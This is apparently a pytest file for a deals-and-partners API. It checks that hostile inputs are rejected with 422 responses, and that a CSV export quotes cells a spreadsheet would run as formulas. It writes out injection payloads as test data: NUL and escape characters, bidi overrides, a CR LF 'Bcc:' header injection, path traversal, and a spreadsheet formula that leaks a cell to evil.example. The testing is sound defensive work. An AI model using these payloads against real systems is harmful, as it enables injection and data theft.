"""Issue 11, Minor: what callers send is refused with a 422 before it reaches the store or a deal.

Negative zero money, control characters and NUL (PostgreSQL refuses NUL in text: a 500), naive
times, free text where a date belongs, e-mail lists, unbounded ids, and an `extend_by` so large
that the deal's deadline would overflow (a 500 today, or a deal stuck on a failing task).
"""

import json
from datetime import date, datetime, timezone

import pytest
from pydantic import TypeAdapter, ValidationError

from service.deals import deal_terms
from store import deals as store
from store.db import session_scope
from tests.api_helpers import WEBHOOK_SECRET, api_client, booking_body, key, signed
from tests.conftest import add_partner, booking, make_settings

PROBLEM_KEYS = {"type", "title", "status", "detail"}
PICKUP = {"address": "1 Main St", "contact_name": "Sam", "contact_phone": "+1 555 0100", "ready_on": date.today().isoformat(), "expected_units": 1}
ITEM = {"product_id": "C9300-48P", "serial_number": "SN-1", "condition": "working", "age_years": 1}


def assert_422(response) -> dict:
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert PROBLEM_KEYS <= body.keys()
    return body


def stage_deal(settings, deal_id: str = "DSTAGED", partner_id: str = "P1") -> str:
    """A deal row as a booking stages it (no workflow): enough for the routes' ownership check."""
    from domain.deal_progress import deal_view, initial_progress

    add_partner(settings, partner_id)
    request = booking(10, partner_id=partner_id)
    terms = deal_terms(deal_id, request, settings, booked_at=datetime.now(timezone.utc))
    with session_scope(settings.effective_database_url) as session:
        store.stage_booking(session, deal_id, request, terms, deal_view(terms, initial_progress(terms, terms.booked_at)))
    return deal_id


def with_(body: dict, **changes) -> dict:
    return json.loads(json.dumps(body)) | changes


def line(**changes) -> dict:
    return {"product_id": "C9300-48P", "quantity": 2, **changes}


PARTNER = {"id": "NEW1", "name": "Acme Networks", "contact_email": "ops@acme.example", "country": "CA"}
BOOKING = booking_body("NOBODY", 2)  # validation comes before the partner is looked up (today: 404)
HOSTILE = [
    ("negative zero money", "/v1/deals", with_(BOOKING, new_products_value="-0.00")),
    ("negative zero, no places", "/v1/deals", with_(BOOKING, new_products_value="-0")),
    ("NUL in a name", "/v1/deals", with_(BOOKING, customer={"name": "Acme\x00Corp", "country": "CA"})),
    ("line separator in a name", "/v1/deals", with_(BOOKING, customer={"name": "Acme\u2028Corp", "country": "CA"})),
    ("CR LF in a product id", "/v1/deals", with_(BOOKING, equipment=[line(product_id="C9300\r\n48P")])),
    ("NUL in a serial", "/v1/deals", with_(BOOKING, equipment=[line(serial_numbers=["SN\x001", "SN2"])])),
    ("NUL in a contact", "/v1/deals/DNONE/pickups", with_(PICKUP, contact_name="Sam\x00")),
    ("NUL in an address", "/v1/deals/DNONE/pickups", with_(PICKUP, address="1 Main St\x00")),
    ("escape in a phone", "/v1/deals/DNONE/pickups", with_(PICKUP, contact_phone="+1 555\x1b[2J")),
    ("a time for a date", "/v1/deals/DNONE/pickups", with_(PICKUP, ready_on="2026-12-01T10:00:00Z")),
    ("free text for a date", "/v1/deals/DNONE/pickups", with_(PICKUP, ready_on="next tuesday")),
    ("NUL for a date", "/v1/deals/DNONE/pickups", with_(PICKUP, ready_on="\x00")),
    ("NUL in a received serial", "/v1/deals/DNONE/receipts", {"items": [with_(ITEM, serial_number="SN\x00")]}),
    ("terminal escape in a reason", "/v1/deals/DNONE/cancel", {"reason": "\x1b[31mwithdrawn"}),
    ("NUL in an extension's reason", "/v1/deals/DNONE/extend", {"extend_by": "30d", "reason": "asked\x00"}),
    # Issue 24, 6: a partner's name and country and a reinstate's reason took any text (a NUL: a 500 on PostgreSQL).
    ("NUL in a partner's name", "/v1/partners", with_(PARTNER, name="Acme\x00Corp")),
    ("CR LF in a partner's name", "/v1/partners", with_(PARTNER, name="Acme\r\nBcc: eve@evil.example")),
    ("escape in a partner's country", "/v1/partners", with_(PARTNER, country="C\x1b[2JA")),
    ("bidi override in a partner's name", "/v1/partners", with_(PARTNER, name="Acme \u202egnp.exe")),
    ("bidi isolate in a partner's country", "/v1/partners", with_(PARTNER, country="\u2066CA\u2069")),
    ("bidi override in a customer's name", "/v1/deals", with_(BOOKING, customer={"name": "Acme\u202eCorp", "country": "CA"})),
    ("NUL in a reinstate's reason", "/v1/partners/NOBODY/reinstate", {"reason": "renewed\x00"}),
    ("escape in a reinstate's reason", "/v1/partners/NOBODY/reinstate", {"reason": "\x1b[31mrenewed"}),
    ("bidi override in a reinstate's reason", "/v1/partners/NOBODY/reinstate", {"reason": "renewed \u202ewithdrawn"}),
]


@pytest.mark.parametrize(("case", "path", "body"), HOSTILE, ids=[case for case, _, _ in HOSTILE])
async def test_hostile_values_are_a_422_before_anything_is_looked_up(tmp_path, case, path, body):
    settings = make_settings(tmp_path)
    async with api_client(settings) as http:
        problem = assert_422(await http.post(path, json=body, headers=key(settings)))
    assert problem["errors"], case


def test_free_text_keeps_its_line_breaks_and_names_keep_their_letters():
    from domain.models import CancelRequest, Customer, PickupRequest

    pickup = PickupRequest(address="1 Main St\nToronto ON", contact_name="Zoë Ñúñez-Łukasz", contact_phone="+1 (416) 555-0100", ready_on="2026-12-01", expected_units=1)
    assert pickup.address == "1 Main St\nToronto ON" and pickup.ready_on == date(2026, 12, 1)
    assert CancelRequest(reason="customer withdrew;\r\n\tsee ticket 42").reason.startswith("customer")
    assert Customer(name="株式会社 北風", country="JP").name == "株式会社 北風"
    # Right-to-left names need no bidi control: they are refused, the marks (U+200E, U+200F) are not.
    assert Customer(name="شركة الريح الشمالية\u200f", country="AE").name.startswith("شركة")
    from api.routes.partners import PartnerCreate, Reinstatement

    assert PartnerCreate(id="P1", name="Zoë & Søn", contact_email="a@zoe.example", country="DK").name == "Zoë & Søn"
    assert Reinstatement(reason="renewed;\r\n\tsee ticket 42").reason.startswith("renewed")


async def test_a_naive_carrier_event_time_is_a_422(tmp_path):
    settings = make_settings(tmp_path, carrier_webhook_secret=WEBHOOK_SECRET)
    async with api_client(settings) as http:
        naive = {"event_id": "e1", "tracking_number": "SIM1", "status": "delivered", "occurred_at": "2026-12-01T10:00:00"}
        raw, headers = signed(naive)
        assert_422(await http.post("/v1/carrier-events", content=raw, headers=headers))
        raw, headers = signed(naive | {"occurred_at": "2026-12-01T10:00:00+01:00"})
        assert (await http.post("/v1/carrier-events", content=raw, headers=headers)).status_code == 404  # aware: valid (no such tracking)


def test_an_email_field_holds_one_mailbox():
    from domain.models import EmailAddress

    mailbox = TypeAdapter(EmailAddress)
    for good in ("ana@p.example", "first.last+tag@sub.acme.example", "ops@acme.example"):
        assert mailbox.validate_python(good) == good
    for bad in ("ana@p.example,eve@evil.example", "ana@p.example, eve@evil.example", "ana@p.example;eve@evil.example",
                "Ana <ana@p.example>", "ana@p.example\r\nBcc: eve@evil.example", "ana@p.example\x00", "ana", "@p.example", "ana@", "ana@localhost",
                '"ana,eve"@p.example', "ana@p.example eve@evil.example"):
        with pytest.raises(ValidationError):
            mailbox.validate_python(bad)


def test_ids_in_paths_are_bounded():
    from domain.models import DealId, PartnerId

    for kind in (DealId, PartnerId):
        ids = TypeAdapter(kind)
        assert ids.validate_python("D0123456789ABCDEF") == "D0123456789ABCDEF"
        for bad in ("D" * 65, "D\x00", "D/../x", "", "D 1", "D\r\nX"):
            with pytest.raises(ValidationError):
                ids.validate_python(bad)


async def test_unbounded_or_nul_path_parameters_are_a_422(tmp_path):
    settings = make_settings(tmp_path)
    async with api_client(settings) as http:
        ops = key(settings)
        for path in ("/v1/deals/" + "D" * 5000, "/v1/deals/D%00", "/v1/partners/" + "P" * 5000, "/v1/deals/D%00/pickups"):
            method = http.post if path.endswith("pickups") else http.get
            assert_422(await method(path, json=PICKUP, headers=ops) if method is http.post else await method(path, headers=ops))


async def test_email_lists_are_a_422(tmp_path):
    settings = make_settings(tmp_path)
    async with api_client(settings) as http:
        ops = key(settings)
        listed = "ana@p.example,eve@evil.example"
        assert_422(await http.post("/v1/partners", json={"id": "L1", "name": "L", "contact_email": "ops@l.example,eve@evil.example", "country": "CA"}, headers=ops))
        assert_422(await http.post("/v1/partners/L1/trainings", json={"person_email": listed, "person_name": "Ana", "hours": 1}, headers=ops))


async def test_extend_by_is_capped(tmp_path):
    """A huge `extend_by` overflowed the deadline: a 500 in the API, or a deal failing its task."""
    from service.deals import parse_extension

    for huge in ("99999999999d", "3650d", "366d", "0.5s"):
        with pytest.raises(ValueError):
            parse_extension(huge)
    assert parse_extension("365d") == "365d" and parse_extension("30d") == "30d"

    settings = make_settings(tmp_path)
    deal_id = stage_deal(settings)
    async with api_client(settings) as http:
        ops = key(settings)
        for huge in ("99999999999d", "3650d", "0.5s"):
            problem = assert_422(await http.post(f"/v1/deals/{deal_id}/extend", json={"extend_by": huge, "reason": "customer asked"}, headers=ops))
            assert "extend_by" in json.dumps(problem)


async def test_the_impact_csv_quotes_a_product_id_a_spreadsheet_would_read_as_a_formula(tmp_path):
    """Issue 24, 5. Before: the API's impact CSV wrote product ids (a receipt's, the caller's text) raw, so
    `=HYPERLINK(...)` was a live formula in ops' spreadsheet; the console's CSV already quoted such cells."""
    import csv
    import io

    from store.tables import ReturnedItem

    settings = make_settings(tmp_path)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    with session_scope(settings.effective_database_url) as session:
        for n, product_id in enumerate((formula, "+SUM(1)", "-1+2", "@cmd", "C9300-48P")):
            session.add(ReturnedItem(serial=f"SN-{n}", deal_id="D1", batch_id="B1", product_id=product_id, condition="working", age_years=1, disposition="recycle"))
        session.commit()
    async with api_client(settings) as http:
        answer = await http.get("/v1/reports/impact?format=csv", headers=key(settings))
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv"), answer.text
    rows = list(csv.reader(io.StringIO(answer.text)))
    unknown = {row[1]: row[2] for row in rows if row[0] == "unknown_product_units"}
    assert unknown == {"'" + formula: "1", "'+SUM(1)": "1", "'-1+2": "1", "'@cmd": "1"}, unknown
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
    assert ["totals", "units_returned", "5"] in rows  # the figures themselves are untouched
